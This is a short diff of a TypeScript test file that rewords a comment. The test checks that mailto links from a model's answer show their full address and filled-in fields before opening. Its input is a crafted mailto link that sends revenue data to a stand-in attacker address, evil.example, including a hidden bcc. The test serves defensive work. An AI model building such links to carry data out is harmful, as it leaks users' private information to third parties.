@@ -7,7 +7,7 @@ const words = (href: string) =>
     .replace(/<[^>]*>/g, '|')
     .replace(/\|[|\s]*/g, '|')
 
-// The answer of a model may fill a mail with what it read: nobody sends it unseen.
+// A model's answer could put what it read into an email, so nobody may send one unseen.
 test('a link that begins a mail shows the whole address and all that it fills in before it is opened', () => {
   const shown = words(
     'mailto:thief%40evil.example@a.nz?subject=Q3&body=Revenue%20was%0A%24116%2C291&bcc=x%40evil.example',
